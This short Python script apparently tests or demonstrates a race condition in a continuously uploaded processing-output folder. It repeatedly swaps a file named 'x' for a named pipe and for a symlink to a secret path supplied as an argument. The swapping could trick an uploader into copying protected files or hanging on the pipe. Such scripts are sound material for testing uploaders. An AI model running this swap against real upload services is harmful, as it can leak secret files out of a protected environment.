"""Exchanges a file for a pipe and for a link, again and again, while its folder is uploaded continuously."""
import os, sys, time

secret, folder = sys.argv[1], "/opt/ml/processing/out"
until = time.time() + 3
while time.time() < until:
    for make in (lambda: open("x", "w").write("own"), lambda: os.mkfifo("x"), lambda: os.symlink(secret, "x")):
        os.chdir(folder)
        try:
            os.unlink("x")
        except OSError:
            pass
        make()
os.unlink("x")
print("swapped")
